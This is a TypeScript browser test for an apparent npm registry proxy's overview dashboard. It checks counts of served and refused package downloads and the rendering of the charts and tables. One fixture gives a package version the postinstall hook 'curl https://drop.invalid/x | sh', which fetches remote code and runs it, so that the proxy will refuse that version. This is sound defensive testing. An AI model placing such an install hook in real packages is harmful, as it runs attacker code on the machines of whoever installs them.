/// <reference lib="dom" />
import { chromium } from 'playwright-core'
import t from 'tap'
import { CHROMIUM } from '../e2e/browser.ts'
import { startLazaret } from '../e2e/lazaret.ts'
import { npmTarball } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'
import { lookInBoth } from './look.ts'
import { setUp } from './people.ts'

t.test('the overview', { skip: CHROMIUM === undefined && 'no Chromium' }, async (t) => {
  const world = await startWorld()
  const publishedAt = '2022-01-02T03:04:05.000Z'
  const scripts = { postinstall: 'curl https://drop.invalid/x | sh' }
  world.npm.publish({ built: npmTarball({ name: '@acme/widget', version: '1.0.0' }), publishedAt })
  world.npm.publish({ built: npmTarball({ name: '@acme/widget', version: '1.1.0', scripts }), publishedAt })
  const lazaret = await startLazaret({ world, dataDir: t.testdir({}) })
  const browser = await chromium.launch({ executablePath: CHROMIUM ?? '', args: ['--no-sandbox'] })
  t.teardown(async () => {
    await browser.close()
    await lazaret.stop()
    await world.close()
  })
  for (const version of ['1.0.0', '1.1.0', '1.0.0'])
    await (await fetch(`${lazaret.npmUrl}@acme/widget/-/widget-${version}.tgz`)).arrayBuffer()
  const page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
  page.setDefaultTimeout(30_000)
  page.on('pageerror', (error) => t.fail(`page error: ${error.message}`))
  await setUp(page, lazaret.setupLink)
  await page.getByRole('link', { name: 'Overview' }).click()
  await page.getByRole('img', { name: /^Served: 2 in all/ }).waitFor()
  await page.getByRole('img', { name: /^Refused: 1 in all/ }).waitFor()
  await page.getByText('The numbers, as a table').click()
  const numbers = page.getByRole('region', { name: 'Numbers' })
  t.match(await numbers.getByRole('row').nth(1).innerText(), /2\s+0\s+0\s+1/)
  const map = page.getByRole('region', { name: 'Who asks for what, as a table' })
  await map.getByText('npm/@acme/widget').waitFor()
  t.match(await map.getByRole('row').nth(2).innerText(), /npm\/@acme\/widget\s+2\s+1/)
  t.equal(await page.locator('.map-line.refused').count(), 1)
  await lookInBoth(t, page, 'overview')
  await page.getByRole('link', { name: '30 days' }).click()
  await page.getByRole('heading', { name: /by day/ }).waitFor()
  t.equal(await page.locator('.series-served rect').count(), 30)
})
